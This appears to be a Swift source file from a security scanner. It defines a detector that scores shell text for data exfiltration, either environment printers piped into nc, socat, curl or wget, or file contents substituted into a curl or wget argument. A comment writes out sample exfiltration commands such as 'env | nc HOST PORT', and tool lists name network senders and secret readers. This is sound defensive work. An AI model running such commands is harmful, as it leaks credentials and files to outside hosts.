import Bytes
import Evidence

/// What leaves in the words of a download tool or by a pipe from what prints the environment: `curl -d "$(cat FILE)" URL`,
/// `env | nc HOST PORT`.
enum SubstitutedUpload {
  private static let printers = NameTable(["env", "printenv", "set", "export"])
  private static let readers = NameTable([
    "cat", "base64", "xxd", "head", "tail", "od", "hexdump", "gzip", "tar", "grep", "awk",
  ])
  private static let tools = NameTable(["curl", "wget"])
  private static let senders = NameTable(["nc", "ncat", "netcat", "curl", "wget", "socat"])
  private static let maximumSteps = 4

  /// - Parameter isSecret: whether a word is the path of a secret.
  static func severity(_ it: BehaviourText, isSecret: (ByteView) -> Bool) -> Severity? {
    // What is asked of the whole text is asked once, and only where something is sent.
    lazy var mayLogIn = it.hasAny(["Authorization", "authorization", "Bearer"])
    let sends = it.marks(senders)
    var worst: Severity?
    for index in it.commands.indices.dropFirst() {
      let one: Severity?
      if sends[index], pipesEnvironment(it, index) {
        one = it.namesPublicAddress ? .high : .medium
      } else if isSubstituted(it, index), it.namesPublicAddress, !mayLogIn {
        one = severity(it, index, isSecret: isSecret)
      } else {
        continue
      }
      if let one { worst = max(worst ?? one, one) }
    }
    return worst
  }

  /// Whether the pipe that ends in a command begins with the environment: keys and passwords are handed to programs there.
  private static func pipesEnvironment(_ it: BehaviourText, _ index: Int) -> Bool {
    guard it.commands[index].before == 0x7C else { return false }
    var first = index
    while first > 0, index - first < maximumSteps, it.commands[first].before == 0x7C { first -= 1 }
    return printsEnvironment(it, first)
  }

  private static func printsEnvironment(_ it: BehaviourText, _ index: Int) -> Bool {
    printers.contains(it.tools[index]) && it.programs[index].count == 1
  }

  /// Whether a command's output becomes a word of a download tool: `curl -d "$(…`, `wget URL?d=$(…`.
  private static func isSubstituted(_ it: BehaviourText, _ index: Int) -> Bool {
    let outer = it.commands[index - 1]
    let before = it.commands[index].before
    guard before == 0x60 || before == 0x28 && outer.words.last?.hasSuffix("$") == true else { return false }
    // The dollar sign stands alone where a quote precedes it.
    return tools.contains(it.tools[index - 1])
      || index > 1 && isAny(outer.before, of: "\"'") && tools.contains(it.tools[index - 2])
  }

  /// Only to a bare number: a token read into a request to a service by name is how programs log in.
  private static func severity(_ it: BehaviourText, _ index: Int, isSecret: (ByteView) -> Bool) -> Severity? {
    let words = it.programs[index].dropFirst()
    if printsEnvironment(it, index) { return .high }
    guard readers.contains(it.tools[index]) else { return nil }
    if words.contains(where: isSecret) { return .high }
    return words.contains { $0[0] == 0x2F || $0[0] == 0x7E } ? .medium : nil
  }
}
